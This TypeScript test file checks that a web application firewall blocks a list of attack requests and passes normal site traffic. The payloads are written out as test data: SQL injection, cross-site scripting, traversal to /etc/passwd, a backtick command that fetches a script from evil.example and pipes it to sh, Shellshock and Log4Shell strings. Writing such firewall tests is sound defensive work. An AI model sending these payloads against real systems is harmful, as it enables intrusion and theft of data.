import test from 'ava';

import { testWith } from '../needs.ts';
import { type FilteredSite, filteredSite, needsFilter, type Sent } from './support/filtered-site.ts';

const filterTest = testWith(needsFilter(), test.serial);

const form = (path: string, fields: Readonly<Record<string, string>>): Sent => ({
  path,
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
});
const json = (path: string, body: unknown, method = 'POST'): Sent => ({
  path,
  method,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});
const query = (value: string): Sent => ({ path: `/?q=${encodeURIComponent(value)}` });

/** What the Core Rule Set's own regression tests send, of those that say something about this site. */
const ATTACKS: readonly (readonly [title: string, request: Sent])[] = [
  ['SQL: a condition that always holds', query("' OR '1'='1")],
  [
    'SQL: in a form',
    form('/messages', { author: "x' UNION SELECT user, password FROM mysql.user -- ", body: 'x' }),
  ],
  ['SQL: in JSON', json('/api/messages', { author: "1' AND SLEEP(5) AND 'a'='a", body: 'x' })],
  ['SQL: in a cookie', { path: '/', headers: { cookie: "visit=1' OR 1=1 UNION SELECT 1,2,3--" } }],
  ['SQL: a stacked statement', query('1; DROP TABLE messages; --')],
  ['script in a query', query('<script>alert(document.cookie)</script>')],
  ['script in a form', form('/messages', { author: 'Eve', body: '<img src=x onerror=alert(1)>' })],
  ['script in JSON', json('/api/messages', { author: 'Eve', body: '<svg onload=alert(1)>' })],
  ['script by a link', query('javascript:alert(1)//<a href=')],
  ['traversal in a query', query('../../../../etc/passwd')],
  ['traversal, encoded twice', { path: '/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' }],
  ['traversal by backslashes', { path: '/download?file=..%5c..%5c..%5cwindows%5cwin.ini' }],
  ['a file of the system', query('/etc/shadow')],
  ['a command', query('; cat /etc/passwd')],
  ['a command in backticks', query('`wget http://evil.example/x.sh -O- | sh`')],
  ['Shellshock', { path: '/', headers: { 'user-agent': '() { :;}; /bin/bash -c "id"' } }],
  ['Log4Shell in a query', query('${jndi:ldap://evil.example/a}')],
  ['code of Node.js', query("require('child_process').exec('id')")],
  ['code of PHP', query('<?php system($_GET["c"]); ?>')],
  ['a file of elsewhere', query('http://192.0.2.1/evil.php?')],
  ['a header in a query', query('x\r\nSet-Cookie: login=evil')],
  ['a scanner: sqlmap', { path: '/', headers: { 'user-agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }],
  [
    'a scanner: nikto',
    { path: '/', headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' } },
  ],
  ['a scanner looks for a repository', { path: '/.git/config' }],
  ['a scanner looks for settings', { path: '/.env' }],
  ['another method', { path: '/', method: 'PROPFIND' }],
];

/** What the site's own pages, its tests and its monitoring send. */
const MEANT_WELL: readonly (readonly [title: string, request: Sent])[] = [
  ['the board', { path: '/' }],
  ['older messages', { path: '/?before=12345' }],
  [
    'a message',
    form('/messages', {
      request_id: 'b1946ac9-2492-4d23-8a7e-1f3c2d0b9a11',
      author: 'Ada',
      body: 'Hello, world!',
    }),
  ],
  [
    'a message with apostrophes and the words of SQL',
    form('/messages', {
      author: "Conan O'Brien",
      body: "Let's select a table for two, and order by seven o'clock.",
    }),
  ],
  [
    'a message with a link',
    form('/messages', { author: 'Ada', body: 'See https://www.example.org/a/page?with=a&query=1#part' }),
  ],
  ['a message in other scripts', form('/messages', { author: 'Ålesund', body: '你好，世界 — Привет 👋' })],
  ['a message of several lines', form('/messages', { author: 'Ada', body: 'one\r\ntwo\r\n\r\nthree' })],
  ['a long message', form('/messages', { author: 'Ada', body: 'All work and no play. '.repeat(22) })],
  ['messages as JSON', json('/api/messages', { author: 'Ada', body: 'Hello\nworld' })],
  ['a list of messages', { path: '/api/messages?limit=100&before=7' }],
  [
    'a login',
    form('/login', {
      form: 'zX9_-kQ2bqf8m1s7tR4uVw',
      user: 'demo',
      password: 'h8Jq2LxT0vYc7MdNp3RsZa5BwEk9UgFi',
    }),
  ],
  ['a login as JSON', json('/api/login', { user: 'demo', password: 'h8Jq2LxT0vYc7MdNp3RsZa5BwEk9UgFi' })],
  [
    'who is logged in',
    {
      path: '/api/login',
      headers: {
        cookie:
          'login=eyJ1c2VyIjoiZGVtbyIsImV4cGlyZXNBdCI6MTc5NTk3Mzg0NDEyMCwiaWQiOiI0MmRmMzU5NS0zMjgzLTQ1NjAtOTg0Yi1lM2NjYjYzYTQyZDQifQ.c06fQ_t_en4YstS0AklHfPY8SrcbI3nyFYiEiKExsmA; position=3E11FA47-71CA-11E1-9E33-C80AA9429562:23.kX2',
      },
    },
  ],
  ['a logout', { path: '/api/login', method: 'DELETE' }],
  ['another logout', form('/logout', { form: 'zX9_-kQ2bqf8m1s7tR4uVw' })],
  ['readiness, by curl', { path: '/ready', headers: { 'user-agent': 'curl/8.14.1' } }],
  ['who answers, by a script', { path: '/api/whoami', headers: { 'user-agent': 'node' } }],
  ['only the headers', { path: '/', method: 'HEAD' }],
  ['the site by its address', { path: '/', headers: { host: '192.0.2.100' } }],
  ['the site by its other address', { path: '/', headers: { host: '[2001:db8::100]:443' } }],
  ['a balancer by its address', { path: '/ready', headers: { host: '192.0.2.11:80' } }],
  ['the app’s own methods', json('/api/notes/7', { text: 'x' }, 'PATCH')],
];

let site: FilteredSite | undefined;

async function withSite<T>(
  variables: Readonly<Record<string, unknown>>,
  work: (one: FilteredSite) => Promise<T>,
): Promise<T> {
  site = await filteredSite(variables);
  try {
    return await work(site);
  } finally {
    await site.close();
  }
}

async function statuses(
  one: FilteredSite,
  requests: readonly (readonly [string, Sent])[],
): Promise<readonly string[]> {
  const lines: string[] = [];
  for (const [title, request] of requests) lines.push(`${await one.send(request)} ${title}`);
  return lines;
}
const all = (status: number, requests: readonly (readonly [string, Sent])[]): readonly string[] =>
  requests.map(([title]) => `${status} ${title}`);

filterTest('block refuses attacks, and nothing that is meant well', async (t) => {
  await withSite({ waf: 'block' }, async (one) => {
    t.deepEqual(await statuses(one, ATTACKS), all(403, ATTACKS));
    t.deepEqual(await statuses(one, MEANT_WELL), all(200, MEANT_WELL));
  });
});

filterTest('an exclusion spares its argument, below its path, and nothing else', async (t) => {
  const exclusions = [{ path: '/notes', rules: [942190, 'attack-sqli'], argument: 'text' }];
  await withSite({ waf: 'block', waf_exclusions: exclusions }, async (one) => {
    const attack = "x' UNION SELECT user, password FROM mysql.user -- ";
    t.is(await one.send(form('/notes', { text: attack })), 200);
    t.is(await one.send(form('/notes/7', { text: attack })), 200);
    t.is(await one.send(form('/notes', { other: attack })), 403);
    t.is(await one.send(form('/messages', { text: attack })), 403);
    t.is(await one.send(form('/notes/../messages', { text: attack })), 403);
    t.is(await one.send(form('/notes', { text: '<script>alert(document.cookie)</script>' })), 403);
  });
  await withSite(
    { waf: 'block', waf_exclusions: [{ path: '/raw', rules: '941000-949999' }] },
    async (one) => {
      t.is(await one.send(form('/raw', { text: '<script>alert(document.cookie)</script>' })), 200);
      t.is(await one.send(form('/messages', { text: '<script>alert(document.cookie)</script>' })), 403);
    },
  );
});

filterTest('what serves no visitor’s data is not looked at; what cannot be read is refused', async (t) => {
  await withSite({ waf: 'block' }, async (one) => {
    t.is(await one.send({ path: '/static/icon.svg?q=<script>alert(1)</script>' }), 200);
    t.is(await one.send({ path: '/health?q=/etc/passwd' }), 200);
    const broken = { ...json('/api/messages', {}), body: '{"author": ' };
    t.is(await one.send(broken), 400);
    t.is(await one.send(form('/messages', { author: 'Ada', body: 'word '.repeat(10_000) })), 200);
    t.is(await one.send(form('/messages', { author: 'Ada', body: 'word '.repeat(20_000) })), 413);
  });
});

filterTest('the log has neither bodies nor cookies in it', async (t) => {
  await withSite({ waf: 'block' }, async (one) => {
    const request = form('/login?q=/etc/passwd', { user: 'demo', password: 'hunter2hunter2' });
    t.is(await one.send({ ...request, headers: { ...request.headers, cookie: 'login=eyJ1c2VyIjo' } }), 403);
    const log = await one.log(1);
    if (process.env['SHOW_LOG']) t.log(log);
    t.true(log.includes('/etc/passwd'));
    t.notRegex(log, /hunter2|eyJ1c2VyIjo/);
  });
});

filterTest('detect lets everything through, and writes down what block would refuse', async (t) => {
  await withSite({ waf: 'detect' }, async (one) => {
    t.deepEqual(await statuses(one, MEANT_WELL), all(200, MEANT_WELL));
    t.is(await one.log(0), '');
    t.deepEqual(await statuses(one, ATTACKS), all(200, ATTACKS));
    t.is((await one.log(ATTACKS.length)).trim().split('\n').length, ATTACKS.length);
  });
});
